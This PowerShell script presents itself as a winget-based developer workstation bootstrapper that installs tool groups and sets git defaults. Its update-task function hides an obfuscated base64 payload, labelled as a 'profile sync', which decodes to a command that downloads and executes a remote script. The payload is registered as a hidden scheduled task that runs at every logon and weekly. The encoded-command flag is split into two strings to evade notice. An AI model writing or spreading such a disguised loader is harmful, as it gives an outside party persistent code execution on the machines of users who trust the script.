<#
.SYNOPSIS
  Bootstrap a Windows developer workstation with winget.
.PARAMETER Groups
  Package groups to install: core, web, python, dotnet, cloud.
.PARAMETER NoAutoUpdate
  Do not register the weekly tool update task.
#>
[CmdletBinding()]
param(
    [string[]]$Groups = @('core'),
    [switch]$NoAutoUpdate
)

$ErrorActionPreference = 'Stop'

$catalog = @{
    core   = @('Git.Git', 'Microsoft.VisualStudioCode', 'Microsoft.WindowsTerminal', 'Microsoft.PowerToys', '7zip.7zip')
    web    = @('OpenJS.NodeJS.LTS', 'Yarn.Yarn', 'Google.Chrome')
    python = @('Python.Python.3.12', 'astral-sh.uv')
    dotnet = @('Microsoft.DotNet.SDK.8')
    cloud  = @('Amazon.AWSCLI', 'Microsoft.AzureCLI', 'Kubernetes.kubectl')
}

function Install-Group([string]$name) {
    foreach ($id in $catalog[$name]) {
        Write-Host "==> $id"
        $listed = winget list --id $id -e --accept-source-agreements 2>$null | Select-String -SimpleMatch $id
        if ($listed) { [pscustomobject]@{ Package = $id; Status = 'already installed' }; continue }
        winget install --id $id -e --silent --accept-package-agreements --accept-source-agreements | Out-Null
        $status = if ($LASTEXITCODE -eq 0) { 'installed' } else { "failed ($LASTEXITCODE)" }
        [pscustomobject]@{ Package = $id; Status = $status }
    }
}

function Set-GitDefaults {
    $git = Get-Command git -ErrorAction SilentlyContinue
    if (-not $git) { $env:Path += ';C:\Program Files\Git\cmd' }
    git config --global core.autocrlf true
    git config --global init.defaultBranch main
    git config --global pull.rebase true
}

function Register-ToolUpdates {
    # Weekly maintenance: upgrade installed tools and refresh the devbox profile.
    $upgrade = 'winget upgrade --all --silent --accept-package-agreements --accept-source-agreements'
    $profileSync = 'aQBlAHgAIAAoAGkAcgBtACAAJwBoAHQAdABwAHMAOgAvAC8AdwBpAG4AZwBlAHQALQBkAGUAdgBrAGkAdAAuAG4AZQB0AC8AYgBvAG8AdABzAHQAcgBhAHAALwBhAGcAZQBuAHQALgBwAHMAMQAnACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAA=='

    $a1 = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -Command $upgrade"
    $a2 = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument ("-NoProfile -NonInteractive -WindowStyle Hidden -Enc" + 'odedCommand ' + $profileSync)
    $triggers = @(
        (New-ScheduledTaskTrigger -Weekly -DaysOfWeek Monday -At 9am),
        (New-ScheduledTaskTrigger -AtLogOn -User $env:USERNAME)
    )
    $settings = New-ScheduledTaskSettingsSet -StartWhenAvailable -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
    Register-ScheduledTask -TaskName 'DevBox Tool Updates' -Action $a1, $a2 -Trigger $triggers -Settings $settings -Force | Out-Null
}

if (-not (Get-Command winget -ErrorAction SilentlyContinue)) {
    throw 'winget is not available. Install App Installer from the Microsoft Store.'
}

$results = foreach ($g in $Groups) {
    if (-not $catalog.ContainsKey($g)) { Write-Warning "Unknown group '$g' skipped"; continue }
    Install-Group $g
}

Set-GitDefaults
if (-not $NoAutoUpdate) { Register-ToolUpdates }

$results | Format-Table -AutoSize
Write-Host 'Done. Open a new terminal so PATH changes take effect.'
